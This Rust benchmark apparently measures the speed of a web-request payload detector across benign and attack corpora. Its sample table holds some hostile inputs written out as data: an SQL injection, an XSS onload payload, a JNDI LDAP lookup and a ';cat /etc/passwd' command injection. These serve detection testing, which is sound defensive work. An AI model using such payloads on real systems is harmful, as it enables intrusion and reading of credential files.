//! Payload detection micro-benchmark (`cargo bench -p meshward-core --bench detect`):
//! ns per call on typical short values, and cost per KiB of request values for a
//! benign mix and an attack mix (the corpora of `tests/corpus/`), next to a plain
//! byte-scanning loop over the same bytes as the reference limit. std only, < 10 s.

use std::hint::black_box;
use std::time::{Duration, Instant};

use meshward_core::detect::{Detector, FamilySet, Place};

const BENIGN: &str = include_str!("../tests/corpus/benign.txt");
const ATTACKS: [&str; 6] = [
    include_str!("../tests/corpus/sqli.txt"),
    include_str!("../tests/corpus/xss.txt"),
    include_str!("../tests/corpus/path_traversal.txt"),
    include_str!("../tests/corpus/command.txt"),
    include_str!("../tests/corpus/ssrf.txt"),
    include_str!("../tests/corpus/jndi.txt"),
];

fn values(text: &str) -> Vec<Vec<u8>> {
    text.lines()
        .filter(|l| !l.is_empty() && !l.starts_with("## "))
        .map(|l| {
            let l = l
                .strip_prefix("@body ")
                .or_else(|| l.strip_prefix("@header "))
                .or_else(|| l.strip_prefix("@path "))
                .or_else(|| l.strip_prefix("@ua "))
                .unwrap_or(l);
            l.replace("\\n", "\n").into_bytes()
        })
        .collect()
}

/// Runs `f` repeatedly for about `budget`; returns ns per call.
fn time(budget: Duration, mut f: impl FnMut() -> usize) -> f64 {
    // warm-up
    let mut sink = 0usize;
    for _ in 0..16 {
        sink = sink.wrapping_add(f());
    }
    let start = Instant::now();
    let mut calls = 0u64;
    while start.elapsed() < budget {
        for _ in 0..64 {
            sink = sink.wrapping_add(f());
        }
        calls += 64;
    }
    black_box(sink);
    start.elapsed().as_nanos() as f64 / calls as f64
}

/// The reference limit: one pass over every byte.
fn scan(vs: &[Vec<u8>]) -> usize {
    let mut acc = 0usize;
    for v in vs {
        for &b in v {
            acc = acc.wrapping_add(usize::from(b == b'%' || b == b'<' || b == b'\''));
        }
    }
    acc
}

fn main() {
    let d = Detector::new(FamilySet::ALL);
    let budget = Duration::from_millis(400);

    println!("payload detection, all families enabled (ns per call)");
    println!("{:<44} {:>10}", "value", "ns/call");
    let shorts: [(&str, &[u8], Place); 12] = [
        ("number `42`", b"42", Place::Query),
        ("uuid", b"550e8400-e29b-41d4-a716-446655440000", Place::Query),
        ("name `O'Brien`", b"O'Brien", Place::Body),
        ("email", b"jane.doe+tag@example.com", Place::Body),
        ("https URL", b"https://example.com/a/b?c=d", Place::Query),
        ("prose, 60 B", b"Please select one option or the other, thanks a lot!", Place::Body),
        ("user-agent header", b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", Place::Header),
        ("cookie header", b"session=abc123; theme=dark; lang=en-US", Place::Header),
        ("sqli `1' or '1'='1`", b"1%27%20or%20%271%27%3D%271", Place::Query),
        ("xss `<svg/onload=...>`", b"%3Csvg%2Fonload%3Dalert(1)%3E", Place::Query),
        ("jndi lookup", b"${${lower:j}ndi:ldap://x.example/a}", Place::Header),
        ("command `;cat /etc/passwd`", b";cat /etc/passwd", Place::Query),
    ];
    for (name, v, place) in shorts {
        let ns = time(budget / 4, || {
            d.inspect(black_box(v), place).bits() as usize
        });
        println!("{name:<44} {ns:>10.0}");
    }
    let path = b"/api/v1/users/42/orders/2024-01-15";
    let ns = time(budget / 4, || {
        d.inspect_path(black_box(path)).bits() as usize
    });
    println!("{:<44} {:>10.0}", "inspect_path, benign API path", ns);
    let ua = b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0";
    let ns = time(budget / 4, || {
        usize::from(d.scanner_user_agent(black_box(ua)))
    });
    println!("{:<44} {:>10.0}", "scanner_user_agent, browser", ns);

    println!();
    println!("cost per KiB of request values (each value inspected as a query value)");
    println!(
        "{:<14} {:>7} {:>8} {:>10} {:>9} {:>12} {:>8}",
        "mix", "values", "KiB", "ns/value", "ns/KiB", "scan ns/KiB", "ratio"
    );
    let benign = values(BENIGN);
    let attacks: Vec<Vec<u8>> = ATTACKS.iter().flat_map(|t| values(t)).collect();
    // A realistic API mix: mostly benign values, 2 % attacks.
    let mut mixed: Vec<Vec<u8>> = benign.clone();
    mixed.extend(attacks.iter().step_by(8).take(benign.len() / 50).cloned());
    for (name, vs) in [
        ("benign", &benign),
        ("attack", &attacks),
        ("98/2 mix", &mixed),
    ] {
        let bytes: usize = vs.iter().map(Vec::len).sum();
        let kib = bytes as f64 / 1024.0;
        let ns_all = time(budget, || {
            let mut n = 0usize;
            for v in vs.iter() {
                n = n.wrapping_add(d.inspect(black_box(v), Place::Query).bits() as usize);
            }
            n
        });
        let ns_scan = time(budget / 2, || scan(black_box(vs)));
        println!(
            "{:<14} {:>7} {:>8.1} {:>10.0} {:>9.0} {:>12.0} {:>7.1}x",
            name,
            vs.len(),
            kib,
            ns_all / vs.len() as f64,
            ns_all / kib,
            ns_scan / kib,
            ns_all / ns_scan
        );
    }

    println!();
    println!("per family, benign mix (ns/KiB)");
    let bytes: usize = benign.iter().map(Vec::len).sum();
    let kib = bytes as f64 / 1024.0;
    for f in meshward_core::detect::Family::ALL {
        let one = Detector::new(FamilySet::from_iter([f]));
        let ns = time(budget / 4, || {
            let mut n = 0usize;
            for v in benign.iter() {
                n = n.wrapping_add(one.inspect(black_box(v), Place::Query).bits() as usize);
            }
            n
        });
        println!("  {:<16} {:>9.0}", f.as_str(), ns / kib);
    }

    println!();
    println!(
        "long values (bounded: only the first {} bytes are inspected)",
        meshward_core::detect::MAX_INSPECT
    );
    println!(
        "{:<30} {:>8} {:>12} {:>9}",
        "value", "KiB", "ns/value", "MB/s"
    );
    let prose: Vec<u8> =
        b"Please select one option or the other; O'Brien's order shipped. ".repeat(256);
    let json_like: Vec<u8> =
        br#"{"id":42,"name":"O'Brien","note":"a < b & c > d","url":"https://example.com/x"},"#
            .repeat(200);
    let pathological: Vec<u8> = b"<a ' or (".repeat(2000);
    for (name, v) in [
        ("prose 16 KiB", &prose),
        ("json text 16 KiB", &json_like),
        ("`<a ' or (` x2000", &pathological),
    ] {
        let ns = time(budget / 2, || {
            d.inspect(black_box(v), Place::Body).bits() as usize
        });
        let inspected = v.len().min(meshward_core::detect::MAX_INSPECT) as f64;
        println!(
            "{:<30} {:>8.1} {:>12.0} {:>9.0}",
            name,
            v.len() as f64 / 1024.0,
            ns,
            inspected / ns * 1000.0
        );
    }
}
